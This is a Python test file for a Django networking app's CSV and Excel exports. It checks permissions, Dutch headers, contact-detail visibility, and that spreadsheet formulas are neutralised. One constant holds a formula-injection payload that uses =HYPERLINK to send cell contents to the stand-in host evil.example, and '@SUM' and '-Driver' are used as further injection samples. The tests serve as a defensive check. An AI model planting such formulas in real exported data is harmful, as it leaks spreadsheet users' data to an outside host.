"""CSV and Excel downloads of the pages' tables: same permissions as the page, formulas neutralised."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import acme, employee, login
from weakties.accounts.models import Employee
from weakties.accounts.services.organisations import organisation_create
from weakties.introductions.services.requests import introduction_request
from weakties.people.models import Person, Tie
from weakties.referrals.services.referrals import referral_apply
from weakties.referrals.services.vacancies import vacancy_create

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
PHONE = "+31 6 12345678"


@pytest.fixture(autouse=True)
def _english(client):
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _xlsx(response) -> list[list]:
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    return [[c.value for c in row] for row in sheet.iter_rows()]


def _flat(rows) -> str:
    return "\n".join("|".join("" if v is None else str(v) for v in r) for r in rows)


def _globex() -> Employee:
    """An employee of another organisation."""
    org = organisation_create(name="Globex", domain="globex.nl")
    person = Person.objects.create(first_name="Gina", last_name="Globex")
    return Employee.objects.create(
        organisation=org, person=person, email="gina@globex.nl", first_name="Gina"
    )


@pytest.mark.django_db
def test_colleagues_list_downloads_with_the_hostile_name_neutralised(client):
    acme()
    Employee.objects.filter(email="tom.jansen@acme.nl").update(first_name=HOSTILE)
    login(client, "sophie.bakker@acme.nl")
    rows = _csv(client.get(reverse("employees_export", args=["csv"])))
    assert rows[0] == ["Name", "Department", "Job title", "Location", "Ties"]
    assert (
        len(rows) == 1 + Employee.objects.filter(active=True, organisation__name="Acme BV").count()
    )
    hostile = [r for r in rows if HOSTILE in r[0]]
    assert hostile and hostile[0][0].startswith("'=HYPERLINK(")
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)
    x = _xlsx(client.get(reverse("employees_export", args=["xlsx"])))
    assert x[0] == rows[0] and any(str(r[0]).startswith("'=HYPERLINK(") for r in x)
    # The page's search applies; another format is not a page.
    searched = _csv(client.get(reverse("employees_export", args=["csv"]), {"q": "Bakker"}))
    assert [r[0] for r in searched[1:]] == ["Sophie Bakker"]
    assert client.get(reverse("employees_export", args=["pdf"])).status_code == 404


@pytest.mark.django_db
def test_downloads_need_a_login(client):
    acme(networks=False)
    for name in ("employees_export", "introductions_export", "referrals_export"):
        response = client.get(reverse(name, args=["csv"]))
        assert response.status_code == 302 and "/login/" in response["Location"]


@pytest.mark.django_db
def test_colleagues_list_in_dutch(client):
    acme(networks=False)
    login(client, "tom.jansen@acme.nl")
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "nl"
    rows = _csv(client.get(reverse("employees_export", args=["csv"])))
    assert rows[0][0] == "Naam" and rows[0][1] == "Afdeling"


@pytest.mark.django_db
def test_own_network_with_contact_details_only_for_the_owner(client):
    acme()
    jan = employee("jan.vandenberg@acme.nl")
    Person.objects.filter(ties__employee=jan, first_name="Mehmet").update(first_name=HOSTILE)
    login(client, "jan.vandenberg@acme.nl")
    url = reverse("network_export", args=[jan.pk, "csv"])
    rows = _csv(client.get(url))
    assert "Email" in rows[0] and "Phone" in rows[0]
    assert len(rows) == 1 + Tie.objects.filter(employee=jan).count()
    text = _flat(rows)
    assert PHONE in text and "mehmet.celik@example.com" in text.lower()
    assert "'" + PHONE in [r[rows[0].index("Phone")] for r in rows]  # "+31…" is text, not a sum
    assert any(r[0].startswith("'=HYPERLINK(") and r[0].endswith("Çelik") for r in rows)
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r if c != "")
    x = _xlsx(client.get(reverse("network_export", args=[jan.pk, "xlsx"])))
    assert PHONE in _flat(x)


@pytest.mark.django_db
def test_admin_gets_the_network_without_contact_details_and_others_get_nothing(client):
    acme()
    jan = employee("jan.vandenberg@acme.nl")
    admin = login(client, "anna.devries@acme.nl", role="admin")
    rows = _csv(client.get(reverse("network_export", args=[jan.pk, "csv"])))
    text = _flat(rows).lower()
    assert "mehmet" in text
    assert "email" not in rows[0][-1].lower() and PHONE not in text and "@example.com" not in text
    assert len(rows) == 1 + Tie.objects.filter(employee=jan).count()
    # A colleague: the page says 403, so does the download.
    client.logout()
    login(client, "tom.jansen@acme.nl")
    assert client.get(reverse("network_export", args=[jan.pk, "csv"])).status_code == 403
    # Another organisation's employee is not found, for an admin too.
    gina = _globex()
    client.force_login(admin.user)
    assert client.get(reverse("network_export", args=[gina.pk, "csv"])).status_code == 404


@pytest.mark.django_db
def test_introduction_requests_of_each_side(client):
    acme()
    jan, tom = employee("jan.vandenberg@acme.nl"), employee("tom.jansen@acme.nl")
    mehmet = Person.objects.get(ties__employee=jan, first_name="Mehmet")
    Person.objects.filter(pk=mehmet.pk).update(position="@SUM(1+1)")
    introduction_request(
        requester=tom, introducer=jan, person=mehmet, reason="Logistics", questions=["How?"]
    )
    login(client, "tom.jansen@acme.nl")
    mine = _csv(client.get(reverse("introductions_export", args=["csv"])))
    assert [(r[0], r[2], r[3], r[5]) for r in mine[1:]] == [
        ("My requests", "Mehmet Çelik", "'@SUM(1+1)", jan.full_name)
    ]
    assert PHONE not in _flat(mine) and "example.com" not in _flat(mine).lower()
    client.logout()
    login(client, "jan.vandenberg@acme.nl")
    asked = _csv(client.get(reverse("introductions_export", args=["xlsx"]).replace("xlsx", "csv")))
    assert [(r[0], r[5]) for r in asked[1:]] == [("Asked of me", tom.full_name)]
    client.logout()
    login(client, "sophie.bakker@acme.nl")
    assert _csv(client.get(reverse("introductions_export", args=["csv"])))[1:] == []


@pytest.mark.django_db
def test_referrals_board_for_recruiters_only(client):
    org = acme(networks=False)
    v = vacancy_create(organisation=org, title="Planner", location="Utrecht")
    vacancy_create(organisation=org, title="-Driver", location="Zwolle")
    referral_apply(vacancy=v, referrer=employee("tom.jansen@acme.nl"), name=HOSTILE, email="c@x.nl")
    login(client, "sophie.bakker@acme.nl", role="recruiter")
    rows = _csv(client.get(reverse("referrals_export", args=["csv"])))
    assert rows[0][:2] == ["Vacancy", "Location"]
    by_title = {r[0]: r for r in rows[1:]}
    assert set(by_title) == {"Planner", "'-Driver"}
    assert by_title["Planner"][4].startswith("'=HYPERLINK(")
    assert by_title["Planner"][6] == employee("tom.jansen@acme.nl").full_name
    assert "c@x.nl" not in _flat(rows)
    _xlsx(client.get(reverse("referrals_export", args=["xlsx"])))
    client.logout()
    login(client, "tom.jansen@acme.nl")
    assert client.get(reverse("referrals_export", args=["csv"])).status_code == 403


@pytest.mark.django_db
def test_pages_link_their_downloads_and_the_links_work(client):
    org = acme()
    vacancy_create(organisation=org, title="Planner")
    jan = login(client, "jan.vandenberg@acme.nl", role="recruiter")
    pages = {
        reverse("employees"): reverse("employees_export", args=["xlsx"]),
        reverse("employee", args=[jan.pk]): reverse("insights:ego_export", args=[jan.pk, "gexf"]),
        reverse("introductions:index"): reverse("introductions_export", args=["csv"]),
        reverse("referrals:index"): reverse("referrals_export", args=["xlsx"]),
    }
    for page, link in pages.items():
        html = client.get(page).content.decode()
        assert f'href="{link}' in html, page
        assert client.get(link).status_code == 200, link
    # A colleague's page offers the table (admins) but never their Gephi file.
    tom = employee("tom.jansen@acme.nl")
    html = client.get(reverse("employee", args=[tom.pk])).content.decode()
    assert reverse("insights:ego_export", args=[tom.pk, "gexf"]) not in html
